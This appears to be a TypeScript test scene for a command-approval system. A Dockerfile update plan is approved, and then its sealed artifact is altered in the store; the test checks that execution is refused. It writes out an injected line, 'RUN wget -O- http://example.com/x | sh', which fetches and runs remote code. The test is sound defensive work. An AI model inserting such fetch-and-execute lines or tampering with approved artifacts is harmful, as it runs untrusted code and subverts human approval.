import { chmodSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { expect, type Scene } from "../scene.ts";

const BEFORE = "FROM node:20.10\n";
const FILES = { Dockerfile: BEFORE };
const UPDATE = "sed -i.old s/20.10/20.20/ Dockerfile && rm Dockerfile.old";
const ADDED = "RUN wget -O- http://example.com/x | sh\n";

/** The sealed bytes in the store are changed once the approval is in. */
export const alteredPlan: Scene = {
  id: "altered-plan",
  title: "The plan is changed after a person approved it",
  files: FILES,
  async play(stage) {
    const { crew, library } = stage;
    const copy = await stage.unguarded(
      "echo 'sed -i.old s/20.10/20.20/ Dockerfile' > approved.sh",
      `echo "echo '${ADDED.trim()}' >> Dockerfile" >> approved.sh; sh approved.sh`,
    );
    expect(readFileSync(path.join(copy, "Dockerfile"), "utf8").includes(ADDED), "The unguarded script did not run.");

    const plan = await stage.plan(UPDATE);
    await library.decideApproval(crew, { ref: plan.run_id, decision: "approve", comment: "a newer patch release" });
    const { artifacts } = await library.showRun(crew, plan.run_id);
    const sealed = artifacts.find((artifact) => artifact.target === "Dockerfile" && artifact.sha256)?.sha256;
    expect(sealed !== undefined, "The plan holds no Dockerfile.");
    const file = path.join(crew.stateDir, "store", sealed.slice(0, 2), sealed);
    chmodSync(file, 0o644);
    writeFileSync(file, `FROM node:20.20\n${ADDED}`);

    const end = await stage.resume(plan.run_id);
    expect(end.exit_code === 5, `The take-off ended with exit code ${end.exit_code}.`);
    expect(stage.read("Dockerfile") === BEFORE, "The workspace was touched.");
    return {
      without: "the changed script ran; the Dockerfile now fetches and runs a stranger's code",
      governed: "take-off refused, the Dockerfile is as it was",
      reason: end.reason,
      exitCode: end.exit_code,
    };
  },
};
